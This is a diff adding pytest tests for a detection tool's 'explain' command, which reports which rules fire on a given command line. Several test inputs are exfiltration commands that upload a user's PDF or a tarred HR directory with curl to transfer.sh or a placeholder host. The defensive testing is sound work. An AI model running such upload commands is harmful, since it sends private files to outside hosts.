@@ -118,3 +118,35 @@ def test_a_kept_finding_whose_source_is_gone_is_explained_from_the_store(
         assert line["rules"][0]["fired"]
         assert "no longer there" in ended.err
         logs.unlink(missing_ok=True)
+
+
+def test_a_line_is_explained_with_what_it_does_and_the_level_that_it_has(capsys: Any) -> None:
+    (found,) = inside(capsys, "explain", "--line", "curl -T /home/ann/plan.pdf https://transfer.sh/").lines
+    assert found["does"]["transfer.source_path"] == ["/home/ann/plan.pdf"]
+    (fired,) = found["rules"]
+    assert (fired["rule"]["title"], fired["rule"]["level"]) == ("Upload By An HTTP Client", "high")
+
+
+def test_the_program_of_a_line_can_be_named(capsys: Any) -> None:
+    line = ["explain", "--line", "x -T a.pdf https://transfer.sh/", "--output", "jsonl"]
+    (unnamed,) = inside(capsys, *line).lines
+    (named,) = inside(capsys, *line, "--image", r"C:\Windows\System32\curl.exe").lines
+    assert (unnamed["event"]["product"], named["event"]["product"]) == ("", "windows")
+    assert named["event"]["fields"]["Image"] == r"C:\Windows\System32\curl.exe"
+
+
+def test_a_line_with_a_pipe_is_said_to_be_read_as_one_process(capsys: Any) -> None:
+    ended = inside(capsys, "explain", "--line", "tar cz /srv/hr | curl -T - https://transfer.sh/")
+    assert (ended.code, "read as one process" in ended.err) == (0, True)
+    assert inside(capsys, "explain", "--line", "sh -c 'tar cz /srv/hr | curl -T - https://h.example/'").err == ""
+
+
+def test_a_line_that_does_nothing_is_said_to_fire_nothing() -> None:
+    shown = on_terminal("explain", "--line", "ls -la").plain
+    assert "command.plain" in shown
+    assert "no rule fires on this line alone" in shown
+
+
+@pytest.mark.parametrize("given", [[], ["x.jsonl", "--line", "ls"], ["--image", "ls"]])
+def test_one_thing_is_explained(given: list[str], capsys: Any) -> None:
+    assert inside(capsys, "explain", *given).code == 2
